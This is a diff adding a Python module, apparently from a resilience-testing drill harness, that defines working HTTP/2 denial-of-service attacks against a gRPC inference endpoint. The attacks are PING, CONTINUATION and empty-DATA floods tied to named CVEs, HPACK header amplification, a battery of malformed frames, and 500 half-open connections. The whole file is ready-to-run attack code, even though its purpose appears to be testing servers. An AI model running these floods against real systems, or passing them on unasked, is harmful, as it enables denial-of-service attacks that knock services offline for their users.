@@ -1,0 +1,128 @@
+"""Floods of frames of HTTP/2, frames that the protocol does not allow, and connections that stay half open."""
+
+import contextlib
+import itertools
+import socket
+import struct
+import time
+
+from campaigns.drills.attack import Attack, Strike, attack
+from campaigns.drills.http2 import (
+    ACK,
+    CONTINUATION,
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    GOAWAY,
+    HEADERS,
+    PING,
+    PREFACE,
+    PRIORITY,
+    RST_STREAM,
+    SETTINGS,
+    WINDOW_UPDATE,
+    call_headers,
+    frame,
+    grpc_message,
+    literal,
+)
+
+__all__ = ["ATTACKS"]
+
+_FLOODS = "floods of frames"
+_WRONG = "wrong frames"
+_CONNECTIONS = "connections"
+
+_AT_ONCE = 1000
+
+
+def _flood(
+    strike: Strike, frames: bytes, before: bytes = b"", *, count: int | None = None, reads: bool = False
+) -> None:
+    """Send the same frames again and again, on one connection, without reading what comes back."""
+    with strike.connect() as connection:
+        connection.send(before, strike.until)
+        for _ in itertools.count() if count is None else range(count):
+            if not connection.send(frames, strike.until, reads=reads):
+                break
+        connection.note(strike.answers.note)
+
+
+@attack(_FLOODS)
+def unread_pings(strike: Strike) -> None:
+    """50,000 PINGs, 850 kB, whose answers are left unread (CVE-2019-9512)."""
+    _flood(strike, frame(PING, payload=bytes(8)) * _AT_ONCE, count=50)
+
+
+@attack(_FLOODS)
+def continuations(strike: Strike) -> None:
+    """A header block that goes on for ever, of small and of empty CONTINUATIONs (CVE-2024-27316)."""
+    started = frame(HEADERS, 0, 1, call_headers(strike.path("ModelInfer")))
+    _flood(strike, frame(CONTINUATION, 0, 1, literal("x-key", "y" * 100)) * 100, started, reads=True)
+    _flood(strike, frame(CONTINUATION, 0, 1) * _AT_ONCE, started, reads=True)
+
+
+@attack(_FLOODS)
+def empty_data_frames(strike: Strike) -> None:
+    """Frames of data without a byte, on one call, without end (CVE-2019-9518)."""
+    opened = frame(HEADERS, END_HEADERS, 1, call_headers(strike.path("ModelInfer")))
+    _flood(strike, frame(DATA, 0, 1) * _AT_ONCE, opened, reads=True)
+
+
+@attack(_FLOODS)
+def indexed_headers(strike: Strike) -> None:
+    """A header field of 4 kB, indexed once, that each call refers to 15,000 times: 60 MB of headers of 15 kB."""
+    indexed = b"\x40" + literal("x-key", "y" * 4000)[1:]
+    path = strike.path("ModelInfer")
+    with strike.connect() as connection:
+        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, call_headers(path) + indexed), strike.until)
+        for stream in range(3, 400, 2):
+            block = call_headers(path) + b"\xbe" * 15_000
+            if not connection.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block), strike.until):
+                break
+        connection.note(strike.answers.note)
+
+
+@attack(_WRONG)
+def wrong_frames(strike: Strike) -> None:
+    """Each kind of frame with a size, a stream or a flag that it may not have."""
+    call = frame(HEADERS, END_HEADERS, 1, call_headers(strike.path("ModelInfer")))
+    valid = frame(DATA, END_STREAM, 1, grpc_message(strike.valid))
+    wrong = [
+        frame(DATA, 0, 0, b"x"), frame(DATA, 0, 1, b"x"), frame(DATA, 8, 1, b"\xff"), frame(HEADERS, 4, 2, b"\x82"),
+        frame(HEADERS, 4, 1, b"\xff\xff\xff\xff\xff\x0f"), frame(HEADERS, 4 | 8, 1, b"\xff"), frame(HEADERS, 4, 0),
+        frame(PRIORITY, 0, 1, b"x"), frame(RST_STREAM, 0, 1, b"x"), frame(RST_STREAM, 0, 0, bytes(4)),
+        frame(SETTINGS, 0, 0, b"x"), frame(SETTINGS, ACK, 0, b"x" * 6), frame(SETTINGS, 0, 1),
+        frame(SETTINGS, payload=struct.pack(">HI", 4, 2**32 - 1)), frame(SETTINGS, payload=struct.pack(">HI", 5, 1)),
+        frame(PING, 0, 0, b"x"), frame(PING, 0, 1, bytes(8)), frame(GOAWAY, 0, 0, b"x"), frame(5, 4, 1, bytes(4)),
+        frame(WINDOW_UPDATE, 0, 0, bytes(4)), frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1)) * 2,
+        call + frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 2**31 - 1)) * 2, frame(CONTINUATION, 4, 1, b"x"),
+        call + call, call + valid + valid, frame(99, 255, 2**31 - 1, bytes(1000)), b"\xff" * 9,
+        b"\xff\xff\xff" + bytes(6),
+        call + frame(DATA, 0, 1, bytes(16_385)), frame(GOAWAY, 0, 0, bytes(8)) + call + valid,
+    ]  # fmt: skip
+    for data in wrong:
+        if not strike.left():
+            return
+        with strike.connect() as connection:
+            connection.send(data, strike.until)
+            connection.note(strike.answers.note, calls=1)
+
+
+@attack(_CONNECTIONS)
+def half_open_connections(strike: Strike) -> None:
+    """500 connections that send nothing, half a preface, or a preface, and stay."""
+    with contextlib.ExitStack() as held:
+        for number in itertools.takewhile(lambda _: strike.left(), range(500)):
+            try:
+                client = held.enter_context(socket.create_connection((strike.host, strike.port), 2))
+                client.sendall((b"", PREFACE[:12], PREFACE)[number % 3])
+                strike.answers.note("OPEN")
+            except OSError as error:
+                strike.answers.note("REFUSED", type(error).__name__)
+        time.sleep(strike.left())
+
+
+ATTACKS: tuple[Attack, ...] = (
+    unread_pings, continuations, empty_data_frames, indexed_headers, wrong_frames, half_open_connections,
+)  # fmt: skip
